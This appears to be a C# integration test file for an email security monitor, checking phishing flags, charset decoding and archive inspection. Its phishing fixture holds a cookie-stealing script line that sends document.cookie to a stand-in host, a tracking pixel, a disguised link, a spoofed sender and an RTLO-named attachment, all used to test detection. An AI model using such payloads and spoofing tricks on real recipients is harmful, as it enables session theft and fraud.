using System.Text;
using EmailMonitor.Analysis;
using EmailMonitor.Tests.Analysis;
using EmailMonitor.Tests.Support;
using MimeKit;

namespace EmailMonitor.Tests.Integration;

/// <summary>Verdicts on mail delivered through a real Dovecot, as clients receive them.</summary>
public sealed class AnalysisDeliveryTests
{
    [Fact]
    public async Task A_phishing_email_arrives_with_every_flag_it_earned_and_a_clean_one_with_none()
    {
        await using var dovecot = await DovecotServer.StartAsync();
        await using var service = await ServiceHost.StartAsync(dovecot);
        await using var client = await WsClient.ConnectAsync(service.WebSocketUri);
        await client.LoginAsync(ServiceHost.AdminUsername, service.AdminPassword);
        await Watching.WaitAsync(service);

        await dovecot.AppendAsync(Phishing());
        var phishing = await client.ReceiveAsync("new_email");
        await dovecot.AppendAsync(Emails.Plain("Minutes of Monday's meeting"));
        var clean = await client.ReceiveAsync("new_email");

        var flags = phishing.GetProperty("security_flags").EnumerateArray().Select(f => f.GetString()).ToHashSet();
        Assert.Superset(
            new HashSet<string?>
            {
                SecurityFlags.SenderSpoofing, SecurityFlags.ReplyToMismatch, SecurityFlags.SuspiciousLink, SecurityFlags.ScriptRemoved,
                SecurityFlags.ExternalImages, SecurityFlags.DangerousAttachment, SecurityFlags.RtloFilename, SecurityFlags.DmarcFail,
            },
            flags);
        Assert.Equal(100, phishing.GetProperty("risk_score").GetInt32());
        var attachment = phishing.GetProperty("attachments")[0];
        Assert.Equal("invoicefdp.zip", attachment.GetProperty("filename").GetString());
        Assert.Equal("application/zip", attachment.GetProperty("detected_type").GetString());
        Assert.DoesNotContain("<script", phishing.GetProperty("html_content").GetString(), StringComparison.OrdinalIgnoreCase);

        Assert.Empty(clean.GetProperty("security_flags").EnumerateArray());
        Assert.Equal(0, clean.GetProperty("risk_score").GetInt32());

        // The verdict is logged before the event is sent, so the lines are there now.
        var securityLog = File.ReadAllLines(Path.Combine(service.LogDirectory, "security.log"));
        var attachmentLine = Assert.Single(securityLog, line => line.Contains("\"event\":\"dangerous_attachment\"", StringComparison.Ordinal));
        Assert.Contains("invoicefdp.zip", attachmentLine);
        Assert.Contains("rtlo_filename", attachmentLine);
        var emailLine = Assert.Single(securityLog, line => line.Contains("\"event\":\"suspicious_email\"", StringComparison.Ordinal));
        Assert.Contains(phishing.GetProperty("id").GetString()!, emailLine);
        Assert.Contains("sender_spoofing", emailLine);
        Assert.Contains("alerts@evil.test", emailLine);
        Assert.DoesNotContain(securityLog, line => line.Contains("Action required", StringComparison.Ordinal));

        using var http = new HttpClient { BaseAddress = service.BaseUri };
        var metrics = await http.GetStringAsync("/metrics", TestContext.Current.CancellationToken);
        Assert.Matches(@"email_monitor_emails_flagged_total\{[^}]*flag=""dangerous_attachment""[^}]*\} 1\b", metrics);
        Assert.Matches(@"email_monitor_emails_flagged_total\{[^}]*flag=""sender_spoofing""[^}]*\} 1\b", metrics);
        Assert.Matches(@"email_monitor_analysis_duration_seconds_count\{[^}]*\} 2\b", metrics);
    }

    public static TheoryData<string, byte[], string, string, string[]> RawMessages => new()
    {
        {
            // KOI8-R "Привет" is F0 D2 C9 D7 C5 D4, in the body as 8-bit bytes and in the subject base64-encoded.
            "KOI8-R body and subject",
            [.. Encoding.ASCII.GetBytes("From: ivan@example.ru\r\nSubject: =?koi8-r?B?8NLJ18XU?=\r\nContent-Type: text/plain; charset=koi8-r\r\n\r\n"), 0xF0, 0xD2, 0xC9, 0xD7, 0xC5, 0xD4, 0x0D, 0x0A],
            "Привет",
            "Привет",
            []
        },
        {
            "truncated multipart",
            Encoding.ASCII.GetBytes("From: a@example.com\r\nSubject: cut\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/plain\r\n\r\nhalf a message"),
            "cut",
            "half a message",
            [SecurityFlags.MalformedMessage]
        },
    };

    [Theory]
    [MemberData(nameof(RawMessages))]
    public async Task Odd_messages_delivered_byte_for_byte_arrive_decoded_and_flagged(string description, byte[] raw, string expectedSubject, string expectedText, string[] expectedFlags)
    {
        await using var dovecot = await DovecotServer.StartAsync();
        await using var service = await ServiceHost.StartAsync(dovecot);
        await using var client = await WsClient.ConnectAsync(service.WebSocketUri);
        await client.LoginAsync(ServiceHost.AdminUsername, service.AdminPassword);
        await Watching.WaitAsync(service);

        await dovecot.DropAsync(raw);
        var email = await client.ReceiveAsync("new_email");

        Assert.True(expectedSubject == email.GetProperty("subject").GetString(), description);
        Assert.Equal(expectedText, email.GetProperty("text_content").GetString()!.Trim());
        Assert.Equal(expectedFlags, email.GetProperty("security_flags").EnumerateArray().Select(f => f.GetString()!));
    }

    [Fact]
    public async Task Archives_other_than_zip_are_opened_after_delivery_and_judged_by_their_members()
    {
        await using var dovecot = await DovecotServer.StartAsync();
        await using var service = await ServiceHost.StartAsync(dovecot);
        await using var client = await WsClient.ConnectAsync(service.WebSocketUri);
        await client.LoginAsync(ServiceHost.AdminUsername, service.AdminPassword);
        await Watching.WaitAsync(service);

        var builder = new BodyBuilder { TextBody = "The files you asked for." };
        builder.Attachments.Add("files.7z", SampleArchives.SevenZip([("invoice.pdf.exe", SampleFiles.WindowsExecutable)]), new ContentType("application", "x-7z-compressed"));
        builder.Attachments.Add("secret.7z", SampleArchives.SevenZip([("a.txt", SampleFiles.Text)], password: "s3cret", encryptNames: true), new ContentType("application", "x-7z-compressed"));
        builder.Attachments.Add("scans.rar", SampleArchives.Rar5(("scan.jpg", SampleFiles.WindowsExecutable, false)), new ContentType("application", "vnd.rar"));
        builder.Attachments.Add("logs.tgz", SampleArchives.TarGz(("logs/today.txt", SampleFiles.Text)), new ContentType("application", "gzip"));
        var message = new MimeMessage { Subject = "files", Body = builder.ToMessageBody() };
        message.From.Add(new MailboxAddress("Bob", "bob@example.com"));
        message.To.Add(new MailboxAddress("Monitor", "monitor@example.com"));

        await dovecot.AppendAsync(message);
        var email = await client.ReceiveAsync("new_email");

        var flags = email.GetProperty("attachments").EnumerateArray().ToDictionary(
            a => a.GetProperty("filename").GetString()!,
            a => a.GetProperty("flags").EnumerateArray().Select(f => f.GetString()!).Order().ToArray());
        Assert.Equal([SecurityFlags.DangerousAttachment, SecurityFlags.DoubleExtension], flags["files.7z"]);
        Assert.Equal([SecurityFlags.EncryptedArchive], flags["secret.7z"]);
        Assert.Equal([SecurityFlags.DangerousAttachment], flags["scans.rar"]);
        Assert.Empty(flags["logs.tgz"]);
    }

    [Fact]
    public async Task A_fresh_service_process_decodes_east_asian_charsets()
    {
        // In its own process, where nothing but the service decides what is registered first:
        // MimeKit gives up on East Asian charsets for good if they are missing when it starts
        // (in the test process that happened once, when MimeKit started before AngleSharp or
        // SharpCompress, which register them as a side effect).
        await using var dovecot = await DovecotServer.StartAsync();
        using var directory = new TempDirectory();
        var variables = ServiceHost.DefaultVariables(directory.Path, dovecot);
        await using var service = ServiceProcess.Start(variables, directory.Path);
        var uri = await service.ListeningAsync();
        await Readiness.WaitForMailboxesAsync(uri);
        await using var client = await WsClient.ConnectAsync(new UriBuilder(uri) { Scheme = "ws", Path = "/ws" }.Uri);
        await client.LoginAsync(ServiceHost.AdminUsername, variables["ADMIN_PASSWORD"]);

        var shiftJis = CodePagesEncodingProvider.Instance.GetEncoding(932)!;
        await dovecot.DropAsync([
            .. Encoding.ASCII.GetBytes($"From: a@example.jp\r\nSubject: =?shift_jis?B?{Convert.ToBase64String(shiftJis.GetBytes("会議の資料"))}?=\r\n"
                + "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n"),
            .. CodePagesEncodingProvider.Instance.GetEncoding(50220)!.GetBytes("明日の会議について\r\n"),
        ]);
        var email = await client.ReceiveAsync("new_email");

        Assert.Equal("会議の資料", email.GetProperty("subject").GetString());
        Assert.Equal("明日の会議について", email.GetProperty("text_content").GetString()!.Trim());
    }

    private static MimeMessage Phishing()
    {
        var builder = new BodyBuilder
        {
            HtmlBody = """
                <p>Your account is locked. <a href="https://login.evil.test/bank">https://www.bank.example/secure</a></p>
                <script>fetch('https://evil.test/?c=' + document.cookie)</script>
                <img src="https://evil.test/track.gif" width="1" height="1">
                """,
        };
        builder.Attachments.Add("invoice\u202Efdp.zip", SampleFiles.Zip(("invoice.pdf", SampleFiles.WindowsExecutable)), new ContentType("application", "zip"));
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("security@bank.example", "alerts@evil.test"));
        message.ReplyTo.Add(new MailboxAddress("Support", "help@another.test"));
        message.To.Add(new MailboxAddress("Monitor", "monitor@example.com"));
        message.Subject = "Action required";
        message.Headers.Add(HeaderId.AuthenticationResults, "mx.example.com; spf=pass smtp.mailfrom=evil.test; dkim=none; dmarc=fail header.from=evil.test");
        message.Body = builder.ToMessageBody();
        return message;
    }
}
